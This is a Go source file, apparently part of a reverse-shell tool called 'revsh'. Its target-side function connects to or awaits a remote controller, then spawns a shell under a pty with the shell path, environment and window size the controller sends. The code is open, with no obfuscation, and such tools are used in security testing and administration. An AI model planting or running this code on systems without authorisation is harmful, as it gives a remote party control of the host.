package session

import (
	"context"
	"fmt"
	"os"
	"strings"

	"github.com/020monkey/revsh/internal/broker"
	"github.com/020monkey/revsh/internal/frame"
	"github.com/020monkey/revsh/internal/pty"
	"github.com/020monkey/revsh/pkg/config"
	"go.uber.org/multierr"
	"go.uber.org/zap"
)

// RunTarget is the target-side counterpart of RunController: it completes
// the same handshake from the other side, spawning a shell under a pty
// once the controller has sent its shell/env/winsize triplet.
func RunTarget(ctx context.Context, cfg *config.ConfigHelper, log *zap.Logger) (err error) {
	conn, err := dialOrListen(ctx, cfg, false)
	if err != nil {
		return err
	}
	t, err := wrapTransport(conn, cfg, false, log)
	if err != nil {
		return err
	}
	defer func() { err = multierr.Append(err, t.Close()) }()

	codec, err := frame.Negotiate(t)
	if err != nil {
		return fmt.Errorf("session: negotiate: %w", err)
	}

	peerInteractive, err := codec.Pull()
	if err != nil {
		return fmt.Errorf("session: read interactive flag: %w", err)
	}
	if peerInteractive.DataType != frame.DTInit {
		return fmt.Errorf("session: protocol violation: expected DT_INIT, got %v", peerInteractive.DataType)
	}
	interactive := cfg.Interactive && len(peerInteractive.Data) > 0 && peerInteractive.Data[0] != 0
	if err := codec.Push(&frame.Message{DataType: frame.DTInit, Data: []byte{boolByte(interactive)}}); err != nil {
		return fmt.Errorf("session: send interactive flag: %w", err)
	}

	if !interactive {
		b := broker.New(codec, t, broker.OriginTarget, int(os.Stdin.Fd()), int(os.Stdout.Fd()), log)
		b.SetNopInterval(cfg.NopIntervalMs)
		return runBrokerToCompletion(b, log)
	}

	shellMsg, err := codec.Pull()
	if err != nil {
		return fmt.Errorf("session: read shell: %w", err)
	}
	shellPath := cfg.Shell
	if len(shellMsg.Data) > 0 {
		shellPath = string(shellMsg.Data)
	}

	envMsg, err := codec.Pull()
	if err != nil {
		return fmt.Errorf("session: read env: %w", err)
	}
	env := parseEnvPayload(string(envMsg.Data))

	winMsg, err := codec.Pull()
	if err != nil {
		return fmt.Errorf("session: read winsize: %w", err)
	}
	rows, cols := uint16(0), uint16(0)
	if len(winMsg.Data) >= 4 {
		rows = uint16(winMsg.Data[0])<<8 | uint16(winMsg.Data[1])
		cols = uint16(winMsg.Data[2])<<8 | uint16(winMsg.Data[3])
	}
	if rows == 0 {
		rows = 24
	}
	if cols == 0 {
		cols = 80
	}

	shell, err := pty.Spawn(shellPath, env, rows, cols)
	if err != nil {
		return fmt.Errorf("session: spawn shell: %w", err)
	}

	b := broker.New(codec, t, broker.OriginTarget, shell.Fd, shell.Fd, log)
	b.SetNopInterval(cfg.NopIntervalMs)
	b.SetWinsizeSink(shell)

	runErr := runBrokerToCompletion(b, log)
	shell.Wait()
	return multierr.Append(runErr, shell.Close())
}

// parseEnvPayload reverses buildEnvPayload's "NAME=value NAME2=value2"
// join, producing a child-process environment.
func parseEnvPayload(payload string) []string {
	if payload == "" {
		return os.Environ()
	}
	env := os.Environ()
	for _, pair := range strings.Fields(payload) {
		env = append(env, pair)
	}
	return env
}
